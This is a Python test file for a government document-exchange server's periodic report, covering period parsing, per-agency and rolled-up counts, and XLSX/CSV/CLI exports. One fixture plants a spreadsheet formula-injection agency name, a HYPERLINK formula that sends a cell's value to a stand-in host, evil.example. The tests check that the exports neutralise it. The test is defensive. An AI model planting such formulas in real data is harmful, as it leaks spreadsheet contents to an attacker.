"""The periodic exchange report over real HTTP and from the CLI: its numbers are what the test
sent, a parent agency rolls its units up, and the CSV and XLSX say the same as the JSON."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import aiohttp
import openpyxl
import pytest
from click.testing import CliRunner

from adapters.demo import NGHE_AN
from axis import edxml
from axis.errors import AxisError
from axis.report import Period
from axis.server.runtime import start
from cli import cli
from tests.server.conftest import G22, H14, H41, Client, Network, make_network

UNIT = "000.00.01.H41"
FORMULA = "000.00.00.G12"
"""An agency whose name a spreadsheet would run as a formula."""


@pytest.fixture
def network(tmp_path: Path) -> Network:
    made = make_network(tmp_path, {"audit": {"checkpoint_interval": 0}})
    registry, store = made.registry()
    try:
        registry.add_agency(UNIT, "Sở Nội vụ tỉnh Nghệ An", parent=H41)
        registry.add_agency(FORMULA, '=HYPERLINK("http://evil.example/?"&A5,"Bấm")')
    finally:
        store.close()
    return made


def test_periods() -> None:
    assert (Period.parse("2026-Q3").start.isoformat(), Period.parse("2026-Q3").end.isoformat()) == ("2026-07-01", "2026-10-01")
    assert Period.parse("2026-12").end.isoformat() == "2027-01-01"
    assert Period.parse("2026-H2").start.isoformat() == "2026-07-01"
    assert (Period.parse("2026").start.isoformat(), Period.parse("2026").end.isoformat()) == ("2026-01-01", "2027-01-01")
    for wrong in ("2026-13", "2026-Q5", "26-Q1", "Q3", "0000", "9999", "٢٠٢٦"):
        with pytest.raises(AxisError):
            Period.parse(wrong)


async def test_the_report_counts_what_was_sent_and_rolls_units_up(
    network: Network, session: aiohttp.ClientSession, tmp_path: Path
) -> None:
    sender_token, recipient_token = network.endpoint("vpcp", [G22]), network.endpoint("nghe-an", [H41, UNIT])
    unit = edxml.Organization(organ_id=UNIT, organ_name="Sở Nội vụ tỉnh Nghệ An")
    axis = await start(network.settings)
    try:
        sender, recipient = Client(session, axis.url, sender_token), Client(session, axis.url, recipient_token)
        accepted = []
        for recipients in ((NGHE_AN,), (NGHE_AN,), (unit,)):
            status, body = await sender.submit(network.sign(network.document(recipients=recipients)))
            assert status == 202, body
            accepted.append(body)
        for body in accepted[:2]:  # Nghệ An takes two; its unit's one waits
            status, _, _ = await recipient.request("POST", f"/v1/messages/{body['message_id']}/ack", params={"agency": H41})
            assert status == 200
        auditor = Client(session, axis.url, network.auditor_token)
        await auditor.request("POST", "/v1/audit/checkpoints")
        month = f"{datetime.now(UTC):%Y-%m}"
        status, made, _ = await auditor.request("GET", "/v1/reports", params={"period": month})
        assert status == 200, made
        rows = {(r["organ_id"], r["rollup"]): r for r in made["rows"]}
        assert rows[(G22, False)]["sent"] == 3
        assert (rows[(H41, False)]["received"], rows[(H41, False)]["delivered"]) == (2, 2)
        assert (rows[(UNIT, False)]["received"], rows[(UNIT, False)]["pending"]) == (1, 1)
        province = rows[(H41, True)]  # Nghệ An with its unit
        assert (province["received"], province["delivered"], province["pending"]) == (3, 2, 1)
        assert rows[(H41, False)]["median_seconds"] is not None and rows[(UNIT, False)]["median_seconds"] is None
        assert rows[(H14, False)]["received"] == 0
        assert made["totals"]["sent"] == 3 and made["totals"]["received"] == 3
        assert made["checkpoint"] is not None and len(made["checkpoint"]["digest"]) == 64
        async with session.get(
            f"{axis.url}/v1/reports", params={"period": month, "format": "xlsx"},
            headers={"Authorization": f"Bearer {network.auditor_token}"},
        ) as response:
            assert response.status == 200 and "attachment" in response.headers["Content-Disposition"]
            book = openpyxl.load_workbook(io.BytesIO(await response.read()))
        sheet = book.worksheets[0]
        cells = [[c for c in row] for row in sheet.iter_rows(values_only=True)]
        assert "BÁO CÁO" in str(cells[0][0])
        by_id = {row[0]: row for row in cells if row and row[0] in (G22, FORMULA)}
        assert by_id[G22][2] == 3  # the sent column
        assert str(by_id[FORMULA][1]).startswith("=HYPERLINK")  # kept as it is, in a text cell:
        assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str))
        assert any(made["checkpoint"]["digest"] in str(row[0]) for row in cells if row and row[0])
        status, refused, _ = await Client(session, axis.url, sender_token).request("GET", "/v1/reports", params={"period": month})
        assert status == 403  # an endpoint does not read everyone's figures
    finally:
        await axis.stop()
    out = tmp_path / "report.csv"
    result = CliRunner().invoke(
        cli, ["--config", str(network.settings.path), "report", "--period", month, "--agency", H41, "--format", "csv", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    ids = [row[0] for row in table[3:] if row and row[0].startswith("000.")]
    assert ids == [H41, H41, UNIT]  # Nghệ An, Nghệ An with its unit, the unit: nothing else
    result = CliRunner().invoke(
        cli, ["--config", str(network.settings.path), "report", "--period", month, "--format", "csv", "-o", str(out)]
    )
    named = {row[0]: row[1] for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))) if len(row) > 1}
    assert named[FORMULA].startswith("'=")  # a spreadsheet shows it, never runs it
